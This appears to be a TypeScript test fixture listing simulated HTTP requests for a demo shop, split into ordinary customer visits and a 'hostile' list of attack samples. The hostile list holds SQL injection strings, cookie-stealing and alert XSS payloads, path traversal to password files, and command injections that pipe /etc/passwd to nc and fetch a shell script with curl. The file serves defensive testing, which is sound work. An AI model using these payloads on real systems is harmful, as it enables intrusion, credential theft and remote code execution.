/** A request that a demo visitor makes. */
export interface Visit {
  readonly method: 'GET' | 'POST';
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };
const q = encodeURIComponent;

/** What ordinary customers do, prose with awkward words included. */
export const ordinary: readonly Visit[] = [
  { method: 'GET', path: '/' },
  { method: 'GET', path: '/style.css' },
  { method: 'GET', path: '/api/products' },
  { method: 'GET', path: '/about' },
  { method: 'GET', path: `/search?q=${q('oil flask & lantern')}` },
  { method: 'GET', path: `/search?q=${q("O'Brien's select rope from the union")}` },
  { method: 'GET', path: '/search?q=rope&page=2&sort=price' },
  { method: 'GET', path: '/cart', headers: { cookie: 'session=7f3a9c; theme=dark' } },
  { method: 'POST', path: '/login', headers: form, body: 'email=ada%40example.com&remember=on' },
  {
    method: 'POST',
    path: '/checkout',
    headers: json,
    body: '{"items":[{"id":3,"count":1}],"note":"Leave it at the <side> door"}',
  },
  { method: 'GET', path: '/missing-page' },
];

/** What scanners and attackers try, one of each class. */
export const hostile: readonly Visit[] = [
  { method: 'GET', path: `/search?q=${q("1' OR '1'='1' -- ")}` },
  { method: 'GET', path: `/search?q=${q("x' UNION SELECT email,password FROM users--")}` },
  { method: 'POST', path: '/login', headers: form, body: `email=${q("admin'/**/OR/**/1=1#")}&password=x` },
  { method: 'GET', path: `/search?q=${q('<script>fetch("//evil.example/"+document.cookie)</script>')}` },
  {
    method: 'POST',
    path: '/checkout',
    headers: json,
    body: '{"note":"<img src=x onerror=alert(document.domain)>"}',
  },
  { method: 'GET', path: '/about?page=..%2f..%2f..%2f..%2fetc%2fpasswd' },
  { method: 'GET', path: '/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow' },
  { method: 'GET', path: `/search?q=${q('lantern; cat /etc/passwd | nc 203.0.113.9 4444')}` },
  { method: 'GET', path: '/cart', headers: { cookie: 'session=$(curl 203.0.113.9/x.sh|sh)' } },
];

/** Addresses of the loopback range, so that visitors are told apart without a proxy in front. */
export function visitorAddress(number: number): string {
  return `127.0.${1 + (number % 3)}.${1 + (number % 40)}`;
}
